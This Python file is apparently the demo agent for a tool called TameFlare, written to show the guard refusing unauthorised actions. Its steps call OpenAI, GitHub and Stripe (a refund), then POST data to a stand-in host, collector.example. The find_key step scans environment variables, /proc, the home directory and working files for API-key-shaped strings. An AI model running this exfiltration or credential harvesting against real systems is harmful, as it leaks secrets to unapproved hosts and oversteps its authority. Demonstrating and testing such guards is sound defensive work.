"""The example agent of `tf demo`: an ordinary program on the vendors' own SDKs that knows nothing of TameFlare.

It tells what befell it as JSON, one line for each step: {"step", "outcome": "ok" or "refused", "detail"}.
Before the step named `after-kill-switch` it waits for a line on stdin.
"""

from __future__ import annotations

import json
import os
import re
import sys
import urllib.error
import urllib.request
from collections.abc import Callable, Iterator
from pathlib import Path

import github
import openai
import stripe

KEY_SHAPES = re.compile(rb"(?:ghp_|sk-proj-|sk_test_|sk-)[A-Za-z0-9_-]{16,}")
LARGEST_FILE = 64 * 1024 * 1024


def ask_model() -> str:
    """One streamed chat completion."""
    client = openai.OpenAI(max_retries=0, timeout=20)
    messages: list[openai.types.chat.ChatCompletionMessageParam] = [{"role": "user", "content": "Say hello"}]
    with client.chat.completions.create(model="gpt-demo", messages=messages, stream=True) as stream:
        return "".join(chunk.choices[0].delta.content or "" for chunk in stream)


def list_pulls() -> str:
    """The open pull requests of a repository."""
    client = github.Github(auth=github.Auth.Token(os.environ["GITHUB_TOKEN"]), retry=None, timeout=20)
    return ", ".join(pull.title for pull in client.get_repo("acme/site").get_pulls())


def refund() -> str:
    """Give all of a charge back."""
    stripe.ca_bundle_path = os.environ["SSL_CERT_FILE"]  # this SDK trusts nothing but its own bundle
    return stripe.Refund.create(charge="ch_demo", api_key=os.environ["STRIPE_API_KEY"]).id


def send_away() -> str:
    """Send something to a host that nobody agreed to."""
    with urllib.request.urlopen("https://collector.example/drop", data=b"what I know", timeout=20) as answer:
        return f"HTTP {answer.status}"


def find_key() -> str:
    """Look for anything shaped like a key wherever this process can read; a JSON list of what turned up."""
    found = {match.decode() for data in _readable() for match in KEY_SHAPES.findall(data)}
    return json.dumps(sorted(found))


def _readable() -> Iterator[bytes]:
    yield from (f"{name}={value}".encode() for name, value in os.environ.items())
    places = [path / name for path in Path("/proc").glob("[0-9]*") for name in ("environ", "cmdline")]
    for root in (Path.cwd(), Path.home(), Path(os.environ["DEMO_DIRECTORY"])):
        places += [path for path in root.rglob("*") if path.is_file() and path.stat().st_size <= LARGEST_FILE]
    for place in places:
        try:
            yield place.read_bytes()
        except OSError:
            continue  # not ours to read, or gone: the search goes on elsewhere


def main() -> None:
    """Every step in order; a refusal is told, never fatal."""
    tell("model", ask_model)
    tell("pulls", list_pulls)
    tell("refund", refund)
    tell("unknown-host", send_away)
    tell("own-key", find_key)
    sys.stdin.readline()
    tell("after-kill-switch", ask_model)


def tell(step: str, attempt: Callable[[], str]) -> None:
    """Try, and print what came of it."""
    try:
        outcome, detail = "ok", attempt()
    except urllib.error.HTTPError as fault:
        outcome, detail = "refused", f"HTTP {fault.code}: {fault.read().decode(errors='replace')}"
    except (openai.OpenAIError, stripe.StripeError, github.GithubException, OSError) as fault:
        outcome, detail = "refused", f"{type(fault).__name__}: {fault}"
    sys.stdout.write(json.dumps({"step": step, "outcome": outcome, "detail": detail}) + "\n")
    sys.stdout.flush()


if __name__ == "__main__":
    main()
